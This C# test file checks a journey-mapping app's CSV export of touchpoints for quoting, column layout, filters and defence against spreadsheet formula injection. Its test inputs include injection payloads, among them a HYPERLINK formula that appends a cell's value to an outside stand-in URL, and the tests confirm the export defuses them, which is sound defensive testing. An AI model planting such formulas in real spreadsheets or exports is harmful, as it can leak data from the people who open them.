using System.Net;
using System.Text;
using JourneyMapper.Data.Accounts;
using JourneyMapper.Domain.Journeys;
using JourneyMapper.Domain.Records;
using JourneyMapper.Testing;
using JourneyMapper.Web.Tests.Features.Accounts;
using Microsoft.EntityFrameworkCore;
using Microsoft.Extensions.DependencyInjection;

namespace JourneyMapper.Web.Tests.Features.Coverage;

/// <summary>The touchpoints as a file that a spreadsheet opens.</summary>
public sealed class InventoryEndpointTests : IAsyncLifetime
{
    const int Columns = 14;

    AccountsApp app = null!;
    Visitor visitor = null!;

    public async ValueTask InitializeAsync()
    {
        app = await AccountsApp.WithWorkspacesAsync();
        await app.AddMemberAsync("mia", Role.Viewer);
        visitor = app.Visit();
        (await visitor.SignInAsync("mia")).Dispose();
    }

    public async ValueTask DisposeAsync()
    {
        visitor.Dispose();
        await app.DisposeAsync();
    }

    [Theory]
    [InlineData("=1+1")]
    [InlineData("+1+1")]
    [InlineData("-1+1")]
    [InlineData("@SUM(A1:A9)")]
    [InlineData("\t=1+1")]
    [InlineData("\r=1+1")]
    [InlineData("=HYPERLINK(\"https://example.org/?\"&A1,\"Click\")")]
    [InlineData("=1+1,=2+2;=3+3")]
    public async Task No_cell_begins_as_a_formula_does(string formula)
    {
        await PutAsync(formula, formula);
        var row = (await RowsAsync("")).ShouldHaveSingleItem();
        foreach (var cell in row)
        {
            "=+-@\t\r\n".Contains(cell.FirstOrDefault(' '), StringComparison.Ordinal).ShouldBeFalse(cell);
            cell.ShouldNotStartWith("\"=");
        }

        row[0].ShouldContain("1");
    }

    [Theory]
    [InlineData("Shop, second floor")]
    [InlineData("Shop; second floor")]
    [InlineData("Shop | second floor")]
    public async Task Whatever_parts_cells_in_some_culture_stands_in_quotes(string name)
    {
        await PutAsync("A", name);
        using var response = await visitor.GetAsync("/coverage/touchpoints.csv");
        (await response.Content.ReadAsStringAsync()).ShouldContain($"\"{name}\"");
    }

    [Fact]
    public async Task The_file_has_the_columns_of_the_page()
    {
        await PutAsync("A", "Shop");
        (await RowsAsync("")).ShouldHaveSingleItem()[10..13].ShouldBe(["Very negative", "High", "2"]);
        using var ranked = await visitor.GetAsync("/coverage/touchpoints.csv?kpi=open-rate&sort=Kpi");
        (await ranked.Content.ReadAsStringAsync()).ShouldContain("Email open rate");
    }

    [Fact]
    public async Task The_file_has_what_the_filters_leave()
    {
        await PutAsync("A", "Shop", Stage.Awareness, "website");
        await PutAsync("B", "Counter", Stage.Decision, "store");
        (await NamesAsync("")).ShouldBe(["Counter", "Shop"]);
        (await NamesAsync("?stage=Decision")).ShouldBe(["Counter"]);
        (await NamesAsync("?channel=website")).ShouldBe(["Shop"]);
        (await NamesAsync("?channel=none")).ShouldBeEmpty();
        (await NamesAsync("?unowned=true&kpis=None&descending=true")).ShouldBe(["Shop", "Counter"]);
        (await NamesAsync($"?owner={Guid.NewGuid()}")).ShouldBeEmpty();
        (await NamesAsync("?kpis=Missed")).ShouldBeEmpty();
        foreach (var query in new[] { "?stage=9", "?kpis=9", "?sort=9", "?owner=me" })
            (await visitor.StatusOfAsync($"/coverage/touchpoints.csv{query}")).ShouldBe(HttpStatusCode.BadRequest, query);
    }

    async Task PutAsync(string title, string name, Stage stage = Stage.Decision, string channel = "") =>
        await app.Services.StoreAsync(new Journey
        {
            Id = Guid.NewGuid(),
            Title = title,
            Touchpoints = [new() { Id = Guid.NewGuid(), Stage = stage, Name = name, Channel = channel, Emotion = -2, Importance = Importance.High, PainPoints = "Slow\nDear", Rank = Rank.Between(null, null) }],
        });

    async Task<IReadOnlyList<string>> NamesAsync(string query) => [.. (await RowsAsync(query)).Select(row => row[0])];

    async Task<IReadOnlyList<string[]>> RowsAsync(string query)
    {
        using var response = await visitor.GetAsync($"/coverage/touchpoints.csv{query}");
        response.StatusCode.ShouldBe(HttpStatusCode.OK);
        var rows = Cells(await response.Content.ReadAsStringAsync()).Chunk(Columns).ToList();
        rows[0].Length.ShouldBe(Columns);
        return rows[1..];
    }

    // As spreadsheets read a file with commas: quotes hold a cell together, and two of them are one.
    static IEnumerable<string> Cells(string text)
    {
        var cell = new StringBuilder();
        var quoted = false;
        for (var i = 0; i < text.Length; i++)
        {
            if (text[i] == '"' && quoted && i + 1 < text.Length && text[i + 1] == '"')
                cell.Append(text[i++]);
            else if (text[i] == '"')
                quoted = !quoted;
            else if (!quoted && text[i] is (',' or '\n'))
            {
                yield return cell.ToString();
                cell.Clear();
            }
            else if (quoted || text[i] != '\r')
                cell.Append(text[i]);
        }
    }
}
